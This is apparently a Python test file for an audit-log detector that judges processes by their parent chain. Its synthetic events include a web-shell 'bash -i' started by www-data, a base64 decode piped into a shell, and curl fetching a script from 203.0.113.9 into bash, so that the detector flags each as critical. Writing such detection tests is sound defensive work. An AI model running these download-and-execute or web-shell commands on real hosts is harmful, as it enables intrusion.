"""Lineage (lineage.py): what an event means by who spawned it.  The
records are the kernel's (records.py), read by the real auparse; the
processes are linked only by their pid and ppid, as on a host."""

from records import UNSET, event
from records import syscall as _syscall

from audit_notify.lineage import MAX_TAINTED, Lineage
from audit_notify.severity import CRITICAL, INFO, classify

WWW_DATA = "33"


def _exec(argv, pid, ppid, uid="1000", auid="1000", when="1700000000.000", serial=77, exe=None):
    exe = exe or "/usr/bin/" + argv[0].rsplit("/", 1)[-1]
    return event(_syscall("execve", exe=exe, argv=argv, pid=pid, ppid=ppid, uid=uid, auid=auid,
                          tty="(none)" if auid == UNSET else "pts0", paths=[(exe, "NORMAL")],
                          stamp="%s:%d" % (when, serial)))


def _judge(lineage, one):
    return lineage.judge(one, classify(one))


def test_what_a_web_shell_starts_is_critical_long_after_it_began():
    lineage = Lineage()
    shell = _exec(["sh", "-c", "bash -i"], pid=500, ppid=400, uid=WWW_DATA, auid=UNSET, exe="/usr/bin/dash")
    assert _judge(lineage, shell) == (CRITICAL, "shell started by a service account")
    # Its own child shell, then what is typed in that one, minutes later.
    inner = _exec(["bash", "-i"], pid=501, ppid=500, uid=WWW_DATA, auid=UNSET, when="1700000100.000", serial=78)
    assert _judge(lineage, inner).severity == CRITICAL
    listing = _exec(["ls", "-la", "/tmp"], pid=502, ppid=501, uid=WWW_DATA, auid=UNSET, when="1700000300.000",
                    serial=79)
    assert classify(listing).severity == INFO  # alone, nothing
    assert _judge(lineage, listing) == (CRITICAL, "run from a web shell")


def test_a_service_account_s_own_programs_are_not_tainted():
    lineage = Lineage()
    # The web server runs its worker (no shell), and init starts a shell
    # script as a service: neither is a web shell, nor are their children.
    worker = _exec(["apache2", "-k", "start"], pid=600, ppid=599, uid=WWW_DATA, auid=UNSET)
    assert _judge(lineage, worker).severity != CRITICAL
    script = _exec(["sh", "/usr/lib/svc/run"], pid=601, ppid=1, uid=WWW_DATA, auid=UNSET, exe="/usr/bin/dash")
    assert _judge(lineage, script).severity != CRITICAL
    child = _exec(["ls", "/var/www"], pid=602, ppid=601, uid=WWW_DATA, auid=UNSET)
    assert _judge(lineage, child).severity != CRITICAL
    # A person's shell is no service account's.
    person = _exec(["sh", "-c", "id"], pid=603, ppid=602, uid="1000", auid="1000", exe="/usr/bin/dash")
    assert _judge(lineage, person).severity != CRITICAL


def test_a_bare_shell_fed_by_a_decoder_in_one_pipeline_runs_a_payload():
    lineage = Lineage()
    decoder = _exec(["base64", "-d"], pid=701, ppid=700)
    assert _judge(lineage, decoder).severity != CRITICAL  # alone: it only decodes
    shell = _exec(["sh"], pid=702, ppid=700, exe="/usr/bin/dash", serial=78)
    assert _judge(lineage, shell) == (CRITICAL, "decoded payload run by a shell")


def test_a_download_piped_into_bash_is_critical_whichever_starts_first():
    lineage = Lineage()
    shell = _exec(["bash"], pid=801, ppid=800)
    assert _judge(lineage, shell).severity != CRITICAL
    fetch = _exec(["curl", "-s", "http://203.0.113.9/x.sh"], pid=802, ppid=800, serial=78)
    assert _judge(lineage, fetch) == (CRITICAL, "downloaded script run by a shell")


def test_siblings_far_apart_or_of_other_parents_are_no_pipeline():
    lineage = Lineage()
    assert _judge(lineage, _exec(["base64", "-d"], pid=901, ppid=900)).severity != CRITICAL
    later = _exec(["sh"], pid=902, ppid=900, exe="/usr/bin/dash", when="1700000009.000", serial=78)
    assert _judge(lineage, later).severity != CRITICAL  # 9 s later: another command line
    other = _exec(["sh"], pid=903, ppid=950, exe="/usr/bin/dash", serial=79)
    assert _judge(lineage, other).severity != CRITICAL  # another shell's child
    saved = _exec(["curl", "-o", "/tmp/x", "http://203.0.113.9/x"], pid=904, ppid=960, serial=80)
    script = _exec(["sh"], pid=905, ppid=960, exe="/usr/bin/dash", serial=81)
    _judge(lineage, saved)
    assert _judge(lineage, script).severity != CRITICAL  # curl wrote a file, not the pipe


def test_the_memory_of_tainted_processes_is_bounded():
    lineage = Lineage()
    _judge(lineage, _exec(["sh", "-c", "x"], pid=10, ppid=9, uid=WWW_DATA, auid=UNSET, exe="/usr/bin/dash"))
    for pid in range(11, 11 + MAX_TAINTED + 5):
        _judge(lineage, _exec(["true"], pid=pid, ppid=pid - 1, uid=WWW_DATA, auid=UNSET, serial=pid))
    assert len(lineage._tainted) == MAX_TAINTED
    # The first ones went; the chain's end is still known.
    assert _judge(lineage, _exec(["id"], pid=99999999, ppid=11 + MAX_TAINTED + 4, uid=WWW_DATA,
                                 auid=UNSET)).severity == CRITICAL
